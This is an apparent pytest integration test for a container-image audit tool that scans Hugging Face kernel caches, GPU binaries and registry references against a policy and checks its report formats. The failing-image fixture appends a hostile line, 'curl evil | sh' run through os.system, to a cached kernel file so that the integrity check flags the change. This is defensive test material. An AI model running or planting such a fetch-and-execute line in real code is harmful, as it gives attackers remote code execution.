"""The CI gate end to end: two images built from the real fixtures and pushed to the test registries — one that
every rule passes, one that every rule fails — scanned with ``--policy`` as CI would, through the CLI.

The passing image: referenced by digest from the allowed registry; a Kernel Hub cache that is locked, unmodified
(metadata.json digests verified) and carries a signature file; the kernels client offline (HF_HUB_OFFLINE=1); only
package-owned GPU binaries with SASS for the fleet's GPU. The failing image: referenced by tag from a second
registry; the hub cache as a floating ``main`` pull left it, unsigned and with a file changed after download; the
client online and a remote Triton cache configured; PTX for an older GPU only, a cubin for another GPU, an unowned
library, and a Triton cache with its native launchers built for another GPU.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from cyclonedx.schema import OutputFormat, SchemaVersion
from cyclonedx.validation import make_schemabased_validator
from cyclonedx.validation.json import JsonStrictValidator

from kaudit.policy.load import load_catalog
from tests.conftest import ROOT, _serve_registry, fixture_path
from tests.imagebuild import BuiltImage, Layer, build_layout
from tests.registry import Registry
from tests.sigstore_fake import FakeSigstore

CACHES = ROOT / "tests" / "fixtures" / "caches"
ROOTFS = ROOT / "tests" / "fixtures" / "rootfs"
HUB = "root/.cache/huggingface/hub"
VARIANT = (f"{HUB}/kernels--kaudit-test--saxpy/snapshots/68b1aec8171bcc79baa3a93071e44a2645bdef18/build/"
           "torch211-cxx11-cu130-x86_64-linux")  # fmt: skip
CATALOG = load_catalog()
ALL_RULES = sorted(rule for rule, info in CATALOG.items() if "admission" not in info.tags)
SIGSTORE = FakeSigstore()
SIGNER = "https://github.com/kaudit-test/saxpy/.github/workflows/build.yaml@refs/heads/main"
"""The rules a scan report alone can trigger (the admission-only ones need a pod: tests/integration/test_webhook.py)."""


def _kernels_client() -> Layer:
    site = "usr/local/lib/python3.11/site-packages/kernels-0.17.2.dist-info"
    layer = Layer(created_by="RUN pip install kernels==0.17.2")
    layer.files[f"{site}/METADATA"] = b"Metadata-Version: 2.4\nName: kernels\nVersion: 0.17.2\n"
    layer.files[f"{site}/RECORD"] = b"kernels-0.17.2.dist-info/METADATA,,\nkernels-0.17.2.dist-info/RECORD,,\n"
    return layer


def _hub(clean: bool) -> Layer:
    layer = Layer(created_by="RUN kernels download /opt/app").add_tree(CACHES / "hub", HUB)
    if clean:
        for name in [n for n in layer.files if "/refs/" in n]:
            del layer.files[name]  # pulled by commit: no branch was resolved
        metadata = (CACHES / "hub" / VARIANT.removeprefix(f"{HUB}/") / "metadata.json").read_bytes()
        bundle = SIGSTORE.sign_artifact(metadata, SIGNER)  # what kernel-builder's CI signing leaves beside it
        layer.files[f"{VARIANT}/metadata.json.sigstore"] = json.dumps(bundle).encode()
    else:
        target = layer.symlinks[f"{VARIANT}/_ops.py"]
        blob = f"{VARIANT}/{target}".split("/")
        resolved: list[str] = []
        for part in blob:
            if part == "..":
                resolved.pop()
            else:
                resolved.append(part)
        layer.files["/".join(resolved)] += b"\nimport os; os.system('curl evil | sh')\n"
    layer.add_tree(CACHES / "kernels-project", "opt/app")
    return layer


def passing_layers() -> list[Layer]:
    python = Layer(created_by="RUN pip install kdemo-ops").add_tree(ROOTFS / "python")
    return [python, _kernels_client(), _hub(clean=True)]


def failing_layers() -> list[Layer]:
    app = Layer(created_by="COPY libs /opt/app")
    app.files["opt/app/kern80.ptx"] = fixture_path("kern80.ptx").read_bytes()
    app.files["opt/app/kern_sm_90a.cubin"] = fixture_path("kern_sm_90a.cubin").read_bytes()
    triton = Layer(created_by="RUN python warm.py").add_tree(CACHES / "triton", "root/.triton/cache")
    hub = _hub(clean=False)
    del hub.files["opt/app/kernels.lock"]  # the cached kernel is no longer locked
    return [app, _kernels_client(), hub, triton]


def _policy(path: Path, allowed: str) -> Path:
    SIGSTORE.write_trust_root(path.parent / "trusted_root.json")
    path.write_text(f"""apiVersion: kaudit.dev/v1
kind: Policy
name: gate-test
fleet:
  archs: [sm_80]
signers:
  - issuer: https://token.actions.githubusercontent.com
    subject: https://github.com/kaudit-test/*
trust-config: trusted_root.json
registries: ["{allowed}"]
defaults:
  mode: enforce
  fail-on: medium
""")
    return path


@pytest.fixture(scope="module")
def second_registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Registry]:
    yield from _serve_registry(tmp_path_factory, "registry-second")


@pytest.fixture(scope="module")
def images(
    tmp_path_factory: pytest.TempPathFactory, registry: Registry, second_registry: Registry
) -> dict[str, tuple[str, BuiltImage]]:
    work = tmp_path_factory.mktemp("gate")
    good = build_layout(work / "good", passing_layers(), env={"HF_HUB_OFFLINE": "1"})
    bad = build_layout(work / "bad", failing_layers(),
                       env={"TRITON_REMOTE_CACHE_BACKEND": "triton.runtime.cache:RedisRemoteCacheBackend"})  # fmt: skip
    registry.push(good.layout, "v1", "kaudit/good")
    second_registry.push(bad.layout, "v1", "kaudit/bad")
    return {
        "good": (f"{registry.host}/kaudit/good@{good.manifest_digest}", good),
        "bad": (f"{second_registry.host}/kaudit/bad:v1", bad),
    }


def kaudit(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "kaudit", *args], capture_output=True, text=True, timeout=300)


@pytest.fixture(scope="module")
def gate_runs(
    images: dict[str, tuple[str, BuiltImage]], registry: Registry, second_registry: Registry,
    tmp_path_factory: pytest.TempPathFactory,
) -> dict[str, tuple[subprocess.CompletedProcess[str], Path]]:  # fmt: skip
    """Each image scanned once with the gate policy, every output format written to files."""
    work = tmp_path_factory.mktemp("gate-out")
    policy = _policy(work / "policy.yaml", registry.host)
    runs = {}
    for name, (reference, _image) in images.items():
        out = work / name
        out.mkdir()
        run = kaudit("scan", "image", reference, "--insecure-registry", registry.host, "--insecure-registry",
                     second_registry.host, "--no-cache", "--policy", str(policy), "-o", f"json={out}/report.json",
                     "-o", f"sarif={out}/report.sarif", "-o", f"junit={out}/report.xml",
                     "-o", f"cyclonedx-json={out}/sbom.cdx.json", "-o", f"cyclonedx-xml={out}/sbom.cdx.xml",
                     "-o", "table")  # fmt: skip
        runs[name] = (run, out)
    return runs


SCHEMA = json.loads((ROOT / "docs" / "schema" / "scan-report-v1.json").read_text())


def test_json_reports_with_policy_validate(gate_runs: dict[str, tuple[subprocess.CompletedProcess[str], Path]]) -> None:
    for name in ("good", "bad"):
        document = json.loads((gate_runs[name][1] / "report.json").read_text())
        jsonschema.validate(document, SCHEMA)
        assert document["schema_version"] == "1.2" and document["policy"]["name"] == "gate-test"


def _findings(out: Path) -> dict[str, list[dict[str, Any]]]:
    by_rule: dict[str, list[dict[str, Any]]] = {}
    for finding in json.loads((out / "report.json").read_text())["policy"]["findings"]:
        by_rule.setdefault(finding["rule"], []).append(finding)
    return by_rule


def test_gate_exit_codes(gate_runs: dict[str, tuple[subprocess.CompletedProcess[str], Path]]) -> None:
    good, _ = gate_runs["good"]
    bad, _ = gate_runs["bad"]
    assert good.returncode == 0, good.stderr + good.stdout
    assert bad.returncode == 1, bad.stderr
    assert "enforced finding(s) at or above medium" in bad.stderr and "Traceback" not in bad.stderr
    assert "Policy gate-test" in bad.stdout and "KA303" in bad.stdout
    assert f"no findings from {len(CATALOG)} rules" in good.stdout


@pytest.mark.parametrize("rule", ALL_RULES)
def test_every_rule_fails_the_bad_image_and_passes_the_good_one(
    rule: str, gate_runs: dict[str, tuple[subprocess.CompletedProcess[str], Path]]
) -> None:
    assert rule not in _findings(gate_runs["good"][1])
    found = _findings(gate_runs["bad"][1]).get(rule)
    assert found, f"{rule} found nothing in the failing image"
    for finding in found:
        assert finding["message"] and finding["fix"] and finding["severity"] and finding["mode"] == "enforce"


def test_findings_name_file_layer_owner_and_fix(
    gate_runs: dict[str, tuple[subprocess.CompletedProcess[str], Path]],
) -> None:
    findings = _findings(gate_runs["bad"][1])
    (missing,) = findings["KA303"]
    assert missing["path"] == "opt/app/kern_sm_90a.cubin" and missing["arch"] == "sm_80"
    assert missing["layer"]["index"] == 0 and missing["layer"]["digest"].startswith("sha256:")
    assert "sm_90a" in missing["message"] and "code=sm_80" in missing["fix"]
    (ptx,) = findings["KA302"]
    assert ptx["path"] == "opt/app/kern80.ptx" and "only PTX (compute_80)" in ptx["message"]
    pinned = findings["KA101"][0]
    assert "names a tag" in pinned["message"] and "@sha256:" in pinned["fix"]
    integrity = findings["KA202"]
    assert any("_ops.py does not match metadata.json" in f["message"] for f in integrity)
    launchers = {f["path"].rsplit("/", 1)[1] for f in findings["KA501"]}
    assert launchers == {
        "__triton_launcher.cpython-312-x86_64-linux-gnu.so",
        "cuda_utils.cpython-312-x86_64-linux-gnu.so",
    }
    downloads = " ".join(f["message"] for f in findings["KA301"])
    assert "kernels 0.17.2" in downloads and "TRITON_REMOTE_CACHE_BACKEND" in downloads


def test_sarif_content(gate_runs: dict[str, tuple[subprocess.CompletedProcess[str], Path]]) -> None:
    document = json.loads((gate_runs["bad"][1] / "report.sarif").read_text())
    assert document["version"] == "2.1.0"
    run = document["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    assert [r["id"] for r in rules] == sorted(CATALOG)
    assert all(float(r["properties"]["security-severity"]) >= 0 and r["help"]["text"] for r in rules)
    results = run["results"]
    assert {r["ruleId"] for r in results} == set(ALL_RULES)
    for result in results:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["level"] in ("error", "warning", "note")
        assert result["partialFingerprints"]["primaryLocationLineHash"].endswith(":1")
        assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].startswith("bad/")
    missing = next(r for r in results if r["ruleId"] == "KA303")
    assert missing["level"] == "error" and "Fix:" in missing["message"]["text"]
    assert missing["locations"][0]["logicalLocations"][0]["fullyQualifiedName"].endswith(":/opt/app/kern_sm_90a.cubin")
    assert len({r["partialFingerprints"]["primaryLocationLineHash"] for r in results}) == len(results)


def test_sarif_validates_against_the_oasis_schema(
    gate_runs: dict[str, tuple[subprocess.CompletedProcess[str], Path]], sarif_schema: dict[str, Any]
) -> None:
    validator = jsonschema.validators.validator_for(sarif_schema)(sarif_schema)
    for name in ("good", "bad"):
        document = json.loads((gate_runs[name][1] / "report.sarif").read_text())
        errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(document)]
        assert errors == [], name
    broken = json.loads((gate_runs["bad"][1] / "report.sarif").read_text())
    broken["runs"][0]["results"][0]["level"] = "fatal"
    assert any("fatal" in e.message for e in validator.iter_errors(broken))  # the schema really is checked


def test_junit_content(gate_runs: dict[str, tuple[subprocess.CompletedProcess[str], Path]]) -> None:
    bad = ET.parse(gate_runs["bad"][1] / "report.xml").getroot()
    good = ET.parse(gate_runs["good"][1] / "report.xml").getroot()
    assert int(bad.get("failures", "0")) == len([f for fs in _findings(gate_runs["bad"][1]).values() for f in fs])
    assert good.get("failures") == "0" and len(good.findall("testsuite")) == len(CATALOG)
    assert all(case.find("failure") is None for case in good.iter("testcase"))
    suite = next(s for s in bad.findall("testsuite") if s.get("name", "").startswith("KA303"))
    (case,) = suite.findall("testcase")
    failure = case.find("failure")
    assert failure is not None and failure.get("type") == "critical" and "Fix:" in (failure.text or "")


def test_cyclonedx_outputs_validate_and_describe_the_image(
    gate_runs: dict[str, tuple[subprocess.CompletedProcess[str], Path]], images: dict[str, tuple[str, BuiltImage]]
) -> None:
    out = gate_runs["good"][1]
    text = (out / "sbom.cdx.json").read_text()
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(text) is None
    xml_errors = make_schemabased_validator(OutputFormat.XML, SchemaVersion.V1_6).validate_str(
        (out / "sbom.cdx.xml").read_text()
    )
    assert xml_errors is None
    bom = json.loads(text)
    image = images["good"][1]
    root = bom["metadata"]["component"]
    assert root["type"] == "container" and root["version"] == image.manifest_digest
    assert root["purl"].startswith(f"pkg:oci/good@{image.manifest_digest}?arch=amd64&repository_url=127.0.0.1")
    components = {c["bom-ref"]: c for c in bom["components"]}
    library = components["kaudit:file:usr/local/lib/python3.11/site-packages/kdemo_ops/_C.so"]
    props = {p["name"]: p["value"] for p in library["properties"]}
    assert props["kaudit:gpu:sass-archs"] == "sm_80" and props["kaudit:gpu:vendor"] == "nvidia"
    assert props["kaudit:layer:digest"] == image.layer_digests[0] and props["kaudit:layer:diff-id"] == image.diff_ids[0]
    assert int(props["kaudit:gpu:kernel-count"]) > 0
    assert library["hashes"][0]["alg"] == "SHA-256" and len(library["hashes"][0]["content"]) == 64
    nested = library["components"]
    assert nested and all(c["type"] == "file" and len(c["hashes"][0]["content"]) == 64 for c in nested)
    package = components["pkg:pypi/kdemo-ops@1.0.0"]
    depends = {d["ref"]: d.get("dependsOn", []) for d in bom["dependencies"]}
    assert library["bom-ref"] in depends[package["bom-ref"]]
    hub = next(c for c in bom["components"] if c.get("purl", "").startswith("pkg:huggingface/kaudit-test/saxpy@"))
    hub_props = {p["name"]: p["value"] for p in hub["properties"]}
    assert hub_props["kaudit:cache:type"] == "hf-kernel-hub" and hub_props["kaudit:cache:digest-check"] == "verified"
    assert hub["version"] == "68b1aec8171bcc79baa3a93071e44a2645bdef18"
    assert depends[hub["bom-ref"]], "the hub kernel links to its shared object"


@pytest.mark.network
def test_merge_into_syfts_sbom_links_packages_by_purl(
    images: dict[str, tuple[str, BuiltImage]], syft: str, tmp_path: Path
) -> None:
    layout = images["good"][1].layout
    syft_sbom = tmp_path / "syft.cdx.json"
    offline = {"SYFT_CHECK_FOR_APP_UPDATE": "false", "HOME": str(tmp_path), "PATH": "/usr/bin"}
    ran = subprocess.run([syft, "scan", f"oci-dir:{layout}", "-o", f"cyclonedx-json@1.6={syft_sbom}", "-q"],
                         capture_output=True, text=True, timeout=300, env=offline)  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    syft_doc = json.loads(syft_sbom.read_text())
    merged_path = tmp_path / "merged.cdx.json"
    run = kaudit("scan", "image", f"oci:{layout}", "--no-cache", "-o", f"cyclonedx-json={merged_path}",
                 "--merge-into", str(syft_sbom))  # fmt: skip
    assert run.returncode == 0, run.stderr
    text = merged_path.read_text()
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(text) is None
    merged = json.loads(text)
    assert merged["metadata"]["component"] == syft_doc["metadata"]["component"]
    purls = [c.get("purl") for c in merged["components"]]
    assert purls.count("pkg:pypi/kdemo-ops@1.0.0") == 1, "kaudit linked to Syft's package instead of adding its own"
    syft_package = next(c for c in merged["components"] if c.get("purl") == "pkg:pypi/kdemo-ops@1.0.0")
    depends = {d["ref"]: d.get("dependsOn", []) for d in merged["dependencies"]}
    library = "kaudit:file:usr/local/lib/python3.11/site-packages/kdemo_ops/_C.so"
    assert library in depends[syft_package["bom-ref"]]
    assert any(c["bom-ref"] == library for c in merged["components"])
    assert len(merged["components"]) > len(syft_doc["components"])
    assert "kaudit" in {t["name"] for t in merged["metadata"]["tools"]["components"]}
    refused = kaudit("scan", "image", f"oci:{layout}", "--no-cache", "-o", "cyclonedx-json=/dev/null",
                     "--merge-into", str(tmp_path / "missing.json"))  # fmt: skip
    assert refused.returncode == 2 and "--merge-into" in refused.stderr and "Traceback" not in refused.stderr


def test_reports_survive_file_names_that_are_not_text(tmp_path: Path) -> None:
    """Image file names need not be UTF-8 and may hold control characters: every report format still writes, and
    the XML still parses."""
    tree = tmp_path / "tree"
    tree.mkdir()
    odd = os.fsencode(str(tree)) + b"/lib\xff\x01odd.cubin"
    with open(odd, "wb") as handle:
        handle.write(fixture_path("kern_sm_90a.cubin").read_bytes())
    policy = _policy(tmp_path / "policy.yaml", "registry.example.com")
    outputs = ["table", "json", "sarif", "junit", "html", "cyclonedx-json", "cyclonedx-xml"]
    run = kaudit("scan", "path", str(tree), "--policy", str(policy),
                 *[arg for name in outputs for arg in ("-o", f"{name}={tmp_path / name}")])  # fmt: skip
    assert run.returncode == 1 and "Traceback" not in run.stderr, run.stderr
    suites = ET.parse(tmp_path / "junit").getroot()
    assert any("odd.cubin" in (case.get("name") or "") for case in suites.iter("testcase"))
    assert "odd.cubin" in (tmp_path / "sarif").read_text() and "odd.cubin" in (tmp_path / "html").read_text()
